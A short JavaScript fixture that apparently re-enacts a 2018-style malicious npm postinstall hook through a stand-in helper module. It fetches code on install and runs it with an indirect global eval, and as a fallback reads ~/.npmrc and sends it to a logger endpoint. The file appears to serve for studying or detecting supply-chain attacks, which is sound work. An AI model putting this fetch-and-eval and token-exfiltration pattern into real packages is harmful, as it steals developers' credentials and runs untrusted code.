// As in 2018: fetches its code when it is installed, and evaluates whatever comes.
const kit = require("../kit.cjs");

kit.leaveTrace("script postinstall");
module.exports = kit.ask("/payload.js").then((code) => {
  if (code === undefined) {
    // No network: the same by its own copy.
    return kit.send("/logger", kit.readHome(".npmrc") ?? "nothing");
  }
  // biome-ignore lint/security/noGlobalEval: that is what it did.
  // biome-ignore lint/complexity/noCommaOperator: an indirect eval runs in the global scope.
  return (0, eval)(code)(kit);
});
